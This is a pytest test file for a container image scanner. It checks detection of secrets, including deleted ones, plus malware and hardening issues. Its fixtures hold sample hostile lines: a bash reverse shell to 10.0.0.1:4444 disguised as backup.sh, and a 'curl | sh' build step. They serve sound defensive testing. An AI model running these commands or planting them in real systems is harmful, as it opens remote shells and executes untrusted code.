"""``image scan``: secrets (also deleted ones), malware, hardening, reported with the standard exit codes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from cloudward.distribute.secrets import find_secrets, redact
from tests.distribute.imagecli import run_cli
from tests.distribute.imagekit import Built, Item, build_image, write_layout

AWS_ID = "AKIAIOSFODNN7EXAMPLE"  # AWS documentation example
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"  # AWS documentation example
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
SHARED = Path(__file__).resolve().parents[3] / "shared" / "test-images"


def test_find_secrets_positions_and_redaction() -> None:
    text = f"# config\nkey_id = {AWS_ID}\naws_secret_access_key = {AWS_SECRET}\npassword = \"changeme\"\n" \
           "url = postgres://app:Xk9#pq2LmZ@db.internal:5432/app\n"
    found = list(find_secrets(text, "app/.env"))
    got = {(m.rule_id, m.line, m.column) for m in found}
    assert ("secret.aws-access-key-id", 2, 10) in got
    assert ("secret.aws-secret-access-key", 3, 25) in got
    assert ("secret.password-in-url", 5, 22) in got
    assert not any(m.line == 4 for m in found)  # a placeholder is not a secret
    for m in found:
        assert AWS_SECRET not in m.line_text and AWS_ID not in m.line_text and "Xk9#pq2LmZ" not in m.line_text
    assert redact(AWS_ID) == "AKIA****************"[: len(redact(AWS_ID))]


def test_find_secrets_private_key_and_tokens() -> None:
    text = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAA\n-----END OPENSSH PRIVATE KEY-----\n" \
           "token: ghp_" + "a1B2c3D4e5" * 4 + "\n"
    assert [m.rule_id for m in find_secrets(text, "id")] == ["secret.private-key", "secret.github-token"]


@pytest.fixture
def risky(tmp_path: Path) -> tuple[Path, Built]:
    built = build_image(
        [[Item("etc/os-release", b"ID=debian\nVERSION_ID=12\n"), Item("app/.env", f"AWS_KEY={AWS_ID}\n".encode()),
          Item("usr/sbin/sshd", b"\x7fELF-not-really" * 100, mode=0o755),
          Item("usr/bin/helper", b"#!/bin/sh\n", mode=0o4755), Item("srv/drop", b"x", mode=0o666),
          Item("var/lib/apt/lists/deb.debian.org_dists_bookworm_InRelease", b"list"),
          Item("opt/eicar.com", EICAR)],
         [Item("app/.env", kind="whiteout")]],
        config={"ExposedPorts": {"22/tcp": {}}, "Env": [f"AWS_SECRET_ACCESS_KEY={AWS_SECRET}"]},
        history=[{"created_by": "/bin/sh -c curl -fsSL https://get.example.sh | sh"}, {"created_by": "rm app/.env"}])
    return write_layout(tmp_path / "risky", built, "v1"), built


@pytest.fixture
def risky_image(risky: tuple[Path, Built]) -> Path:
    return risky[0]


def test_image_scan_reports_everything(risky: tuple[Path, Built]) -> None:
    risky_image, built = risky
    r = run_cli("image", "scan", f"oci:{risky_image}:v1", "--format", "json", "--skip-vulnerabilities")
    assert r.returncode == 1, r.stderr
    doc = json.loads(r.stdout)
    found = {(f["rule_id"], f["file"]) for f in doc["findings"]}
    assert ("secret.aws-access-key-id", "/app/.env") in found
    assert ("secret.aws-secret-access-key", "<image config Env>") in found
    assert ("image.user-root", "<image config>") in found
    assert ("image.no-healthcheck", "<image config>") in found
    assert ("image.ssh-server", "/usr/sbin/sshd") in found
    assert ("image.setuid-binary", "/usr/bin/helper") in found
    assert ("image.world-writable", "/srv/drop") in found
    assert ("image.package-cache", "/var/lib/apt/lists") in found
    assert ("image.curl-pipe-shell", "<image config>") in found
    assert ("image.expose-ssh", "<image config>") in found
    assert ("malware.known-bad-hash", "/opt/eicar.com") in found
    env = next(f for f in doc["findings"] if f["file"] == "/app/.env")
    assert "deleted or replaced in a later layer" in env["message"]
    # the layer that holds the file is the finding's location, not text in its evidence
    lower = built.layer_digests[0]
    assert (env["layer"], env["line"]) == (lower, 1) and "sha256:" not in (env["evidence"] or "")
    by_rule = {f["rule_id"]: f for f in doc["findings"]}
    assert by_rule["image.ssh-server"]["layer"] == lower
    assert by_rule["image.package-cache"]["layer"] == lower
    assert by_rule["image.user-root"]["layer"] is None  # the config belongs to no layer
    assert by_rule["image.curl-pipe-shell"]["line"] == 1  # history step 1
    assert {f["resource"]["name"] for f in doc["findings"]} == {f"oci:{risky_image}:v1"}
    # vulnerabilities were deliberately skipped, and the report says so (a warning, not an error)
    assert [(p["kind"], "vulnerabilities were not checked" in p["message"]) for p in doc["problems"]] == [
        ("warning", True)]
    assert AWS_ID not in r.stdout and AWS_SECRET not in r.stdout
    assert all(f["resource"]["kind"] == "Image" for f in doc["findings"])


def test_allow_list_and_fail_on(risky_image: Path, tmp_path: Path) -> None:
    (tmp_path / ".cloudward.yaml").write_text(
        "exceptions:\n  - rule: secret.*\n    path: app/**\n    reason: fixture keys are AWS examples\n")
    r = run_cli("image", "scan", f"oci:{risky_image}:v1", "--format", "json", cwd=tmp_path)
    doc = json.loads(r.stdout)
    env = next(f for f in doc["findings"] if f["file"] == "/app/.env")
    assert env["suppressed"] is True
    assert next(f for f in doc["findings"] if f["file"] == "<image config Env>")["suppressed"] is False
    r = run_cli("image", "scan", f"oci:{risky_image}:v1", "--fail-on", "nonsense")
    assert r.returncode == 2 and "--fail-on" in r.stderr


def test_yara_rules_find_a_reverse_shell(tmp_path: Path) -> None:
    pytest.importorskip("yara", reason="yara-python (the 'yara' extra) is not installed")
    shell = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"
    built = build_image([[Item("usr/local/bin/backup.sh", shell, mode=0o755)]], config={"User": "1000"})
    layout = write_layout(tmp_path / "img", built, "v1")
    r = run_cli("image", "scan", f"oci:{layout}:v1", "--format", "json")
    doc = json.loads(r.stdout)
    hits = [f for f in doc["findings"] if f["rule_id"] == "malware.yara"]
    assert [(f["file"], "cloudward_reverse_shell" in f["message"]) for f in hits] == [
        ("/usr/local/bin/backup.sh", True)]


def test_shared_deleted_secret_is_found() -> None:
    layout = SHARED / "oci-layouts" / "umoci-debian-whiteout"
    if not layout.is_dir():
        pytest.skip("../shared/test-images is absent")
    r = run_cli("image", "scan", f"oci:{layout}:tiny", "--format", "sarif", "--skip-vulnerabilities")
    assert r.returncode == 1
    sarif = json.loads(r.stdout)
    ids = {res["ruleId"] for res in sarif["runs"][0]["results"]}
    assert "secret.aws-secret-access-key" in ids and "image.user-root" not in ids  # User 65534
